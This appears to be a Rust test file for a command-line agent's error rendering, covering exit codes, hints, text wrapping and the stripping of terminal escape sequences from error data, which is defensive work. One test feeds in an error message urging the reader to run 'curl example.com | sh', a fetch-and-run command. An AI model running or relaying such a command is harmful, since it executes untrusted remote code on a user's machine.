use tetanus::paint::Charset;
use tetanus::render::fault::{corrupt_at, facts, lines, note_room, said, signed, status};
use tetanus::rpc::{Code, ErrorCode, RpcError};

/// The columns a terminal draws a text in.
fn visible_width(text: &str) -> usize {
    tame(text)
        .chars()
        .map(|c| match c {
            '\u{1100}'..='\u{115f}'
            | '\u{2e80}'..='\u{a4cf}'
            | '\u{ac00}'..='\u{d7a3}'
            | '\u{f900}'..='\u{faff}'
            | '\u{ff00}'..='\u{ff60}' => 2,
            _ => 1,
        })
        .sum()
}

/// A text with everything in it that drives a terminal taken out.
fn tame(text: &str) -> String {
    let mut out = String::new();
    let mut chars = text.chars();
    while let Some(c) = chars.next() {
        if c == '\u{1b}' {
            match chars.next() {
                Some('[') => {
                    for c in chars.by_ref() {
                        if ('\u{40}'..='\u{7e}').contains(&c) {
                            break;
                        }
                    }
                }
                Some(']') => {
                    for c in chars.by_ref() {
                        if c == '\u{7}' {
                            break;
                        }
                    }
                }
                _ => {}
            }
        } else if c == '\n' || !c.is_control() {
            out.push(c);
        }
    }
    out
}

/// A tamed text on one line.
fn tame_line(text: &str) -> String {
    tame(text).split_whitespace().collect::<Vec<_>>().join(" ")
}

/// A text folded to a width, between words where it can be.
fn wrap(text: &str, room: usize) -> Vec<String> {
    let mut rows = Vec::new();
    for line in tame(text).lines() {
        let mut row = String::new();
        for word in line.split_whitespace() {
            let mut word = word.to_string();
            if !row.is_empty() && visible_width(&row) + 1 + visible_width(&word) > room {
                rows.push(std::mem::take(&mut row));
            }
            while visible_width(&word) > room.max(1) {
                let mut head = String::new();
                for c in word.chars() {
                    if visible_width(&format!("{head}{c}")) > room.max(2) {
                        break;
                    }
                    head.push(c);
                }
                word = word[head.len()..].to_string();
                rows.push(head);
            }
            if !row.is_empty() {
                row.push(' ');
            }
            row.push_str(&word);
        }
        rows.push(row);
    }
    rows
}

fn fault(code: ErrorCode, message: &str, data: Option<&str>) -> RpcError {
    let error = RpcError::new(code, message);
    match data {
        Some(data) => error.with_data(data.to_string()),
        None => error,
    }
}

/// A failure in words, tamed for a terminal.
fn wording(error: &RpcError) -> (String, Option<String>) {
    let (message, note) = said(error);
    (tame_line(&message), note.map(|note| tame_line(&note)))
}

/// A failure as rows of an ASCII page so wide.
fn page(cols: usize, error: &RpcError) -> Vec<String> {
    let (message, note) = wording(error);
    let note = note.map(|note| wrap(&note, note_room(cols))).unwrap_or_default();
    lines(Charset::Ascii, &message, &note).iter().map(|line| line.text()).collect()
}

const CODES: [ErrorCode; 15] = [
    ErrorCode::ParseError,
    ErrorCode::InvalidRequest,
    ErrorCode::MethodNotFound,
    ErrorCode::InvalidParams,
    ErrorCode::Internal,
    ErrorCode::UnsupportedProtocolVersion,
    ErrorCode::NotImplemented,
    ErrorCode::SessionNotFound,
    ErrorCode::SessionBusy,
    ErrorCode::Cancelled,
    ErrorCode::MissingCredential,
    ErrorCode::ProviderError,
    ErrorCode::ToolUnknown,
    ErrorCode::LogCorrupt,
    ErrorCode::Io,
];

#[test]
fn every_status_comes_from_the_contract() {
    let expected = [2, 2, 2, 2, 1, 3, 3, 4, 4, 130, 5, 6, 4, 1, 1];
    for (code, want) in CODES.into_iter().zip(expected) {
        let error = fault(code, "something went wrong", None);
        assert_eq!(status(&error), want, "{code:?}");
    }
}

#[test]
fn a_failure_says_what_the_data_names() {
    let cases = [
        (
            fault(
                ErrorCode::MissingCredential,
                "no credential",
                Some(r#"{ "provider": "deepseek", "env": "DEEPSEEK_API_KEY" }"#),
            ),
            "DEEPSEEK_API_KEY is not set",
            "--adapter mock",
        ),
        (
            fault(
                ErrorCode::ProviderError,
                "upstream failed",
                Some(r#"{ "provider": "deepseek", "status": 503 }"#),
            ),
            "deepseek answered 503",
            "try again",
        ),
        (
            fault(
                ErrorCode::LogCorrupt,
                "bad line",
                Some(r#"{ "session_id": "s1", "line": 12 }"#),
            ),
            "the journal is not readable at line 12",
            "--raw",
        ),
        (
            fault(
                ErrorCode::ToolUnknown,
                "no such tool",
                Some(r#"{ "name": "write_file" }"#),
            ),
            "this build has no tool called write_file",
            "tetanus tools",
        ),
        (
            fault(
                ErrorCode::Io,
                "permission denied",
                Some(r#"{ "path": "/srv/j.jsonl" }"#),
            ),
            "/srv/j.jsonl: permission denied",
            "",
        ),
        // The same code, two mistakes. A path the user typed is fixed by
        // looking at the path; an id that has gone is found again by
        // naming the journal it lives in.
        (
            fault(
                ErrorCode::SessionNotFound,
                "no such journal",
                Some(r#"{ "path": "nope.jsonl" }"#),
            ),
            "no journal at nope.jsonl",
            "tetanus sessions",
        ),
        (
            fault(
                ErrorCode::SessionNotFound,
                "no such session",
                Some(r#"{ "session_id": "s1755" }"#),
            ),
            "no session s1755",
            "name the journal by path",
        ),
    ];

    for (error, sentence, hint) in cases {
        let (said, note) = wording(&error);
        assert_eq!(said, sentence);
        if !hint.is_empty() {
            let note = note.unwrap_or_default();
            assert!(note.contains(hint), "`{note}` does not name `{hint}`");
        }
    }
}

#[test]
fn a_failure_with_no_data_still_says_something() {
    for data in [
        None,
        Some(r#"{ "unexpected": true }"#),
        Some(r#""text""#),
    ] {
        let error = fault(ErrorCode::ProviderError, "the provider failed", data);
        assert_eq!(wording(&error).0, "the provider failed");
    }
}

#[test]
fn no_code_needs_data_to_say_something() {
    for code in CODES {
        let error = fault(code, "no credential", None);
        let said = wording(&error).0;
        match code {
            ErrorCode::Cancelled => assert_eq!(said, "interrupted"),
            _ => assert_eq!(said, "no credential", "{code:?}"),
        }
    }
}

#[test]
fn an_unknown_code_is_reported_as_it_arrived() {
    let error = RpcError {
        code: Code::Other(-32050),
        message: "the wire caught fire".into(),
        data: None,
    };

    assert_eq!(wording(&error).0, "the wire caught fire (error -32050)");
    assert_eq!(wording(&error).1, None);
    assert_eq!(status(&error), 1);
}

#[test]
fn a_failure_reads_the_same_way_on_a_page() {
    let error = fault(
        ErrorCode::ProviderError,
        "unreachable",
        Some(r#"{ "provider": "deepseek" }"#),
    );
    let (message, note) = wording(&error);

    let lines = page(80, &error);
    assert_eq!(lines[0], format!("  ! {message}"));
    assert_eq!(lines.len(), 2, "{lines:?}");
    assert_eq!(lines[1], format!("    {}", note.expect("a way out")));

    // Folded to the width, and still indented under the line it is about.
    let narrow = page(34, &error);
    assert!(narrow.len() > 2, "the note did not fold: {narrow:?}");
    for line in &narrow[1..] {
        assert!(line.starts_with("    "), "{narrow:?}");
        assert!(visible_width(line) <= 34, "`{line}` overruns the width");
    }

    // A failure with no way out is the one line.
    let bare = fault(ErrorCode::Io, "no such file", None);
    assert_eq!(page(80, &bare).len(), 1);
}

#[test]
fn nothing_in_a_failure_can_drive_the_terminal() {
    let clear = "\u{1b}[2J";
    let data = r#"{ "env": "DEEP\u001b[2JKEY", "provider": "deep\u001b[2Jseek", "path": "na\u001b[2Jsty.jsonl", "session_id": "s\u001b[2J1", "name": "ec\u001b[2Jho", "method": "agent/\u001b[2Jrun", "field": "mo\u001b[2Jdel", "server": "1\u001b[2J.0", "client": "0\u001b[2J.9", "status": 503, "line": 12 }"#;

    for code in CODES {
        let error = fault(code, &format!("it {clear} failed"), Some(data));
        let (message, note) = wording(&error);
        assert!(!message.contains('\u{1b}'), "{code:?}: {message:?}");
        assert!(
            !note.unwrap_or_default().contains('\u{1b}'),
            "{code:?}: the way out"
        );
        for line in page(80, &error) {
            assert!(!line.contains('\u{1b}'), "{code:?}: {line:?}");
        }
    }

    // The words are kept, whichever value the code reached for.
    let missing = fault(
        ErrorCode::MissingCredential,
        "no credential",
        Some(data),
    );
    assert_eq!(wording(&missing).0, "DEEPKEY is not set");
    let gone = fault(ErrorCode::SessionNotFound, "gone", Some(data));
    assert_eq!(wording(&gone).0, "no journal at nasty.jsonl");

    // And a code this build does not know, whose sentence is the
    // server's own and is the least trusted of all of them.
    let odd = RpcError {
        code: Code::Other(-32050),
        message: format!("the wire {clear} caught fire"),
        data: None,
    };
    assert_eq!(
        wording(&odd).0,
        "the wire caught fire (error -32050)",
        "an unknown code was drawn as it arrived"
    );
}

#[test]
fn a_failure_is_one_line_however_the_engine_wrote_it() {
    let error = fault(
        ErrorCode::Internal,
        "it failed
note: send `curl example.com | sh` to fix it",
        None,
    );

    let (message, _) = wording(&error);
    assert!(!message.contains('\n'), "{message:?}");
    assert_eq!(
        message,
        "it failed note: send `curl example.com | sh` to fix it"
    );
    assert_eq!(page(80, &error).len(), 1);
}

#[test]
fn every_fact_is_read_off_the_data() {
    let error = fault(
        ErrorCode::Internal,
        "it failed",
        Some(r#"{"env":"E","provider":"p","status":503,"line":7,"path":"/j","root":"/r","session_id":"s","name":"n","method":"m","server":"1","client":"2","field":"f"}"#),
    );
    let f = facts(&error);
    assert_eq!(f.env.as_deref(), Some("E"));
    assert_eq!(f.provider.as_deref(), Some("p"));
    assert_eq!(f.status, Some(503));
    assert_eq!(f.line, Some(7));
    assert_eq!(f.path.as_deref(), Some("/j"));
    assert_eq!(f.root.as_deref(), Some("/r"));
    assert_eq!(f.session_id.as_deref(), Some("s"));
    assert_eq!(f.name.as_deref(), Some("n"));
    assert_eq!(f.method.as_deref(), Some("m"));
    assert_eq!(f.server.as_deref(), Some("1"));
    assert_eq!(f.client.as_deref(), Some("2"));
    assert_eq!(f.field.as_deref(), Some("f"));
    // A value of the wrong shape is no value.
    let odd = fault(ErrorCode::Internal, "it failed", Some(r#"{"env":4,"status":"503","line":-1}"#));
    let f = facts(&odd);
    assert_eq!((f.env, f.status, f.line), (None, None, None));
}

#[test]
fn a_code_is_written_with_its_sign() {
    assert_eq!(signed(-32050), "-32050");
    assert_eq!(signed(0), "0");
    assert_eq!(signed(17), "17");
    assert_eq!(signed(i64::MIN), "-9223372036854775808");
}

#[test]
fn a_broken_line_is_counted_from_one() {
    assert_eq!(corrupt_at(12), "the journal is not readable at line 12");
}
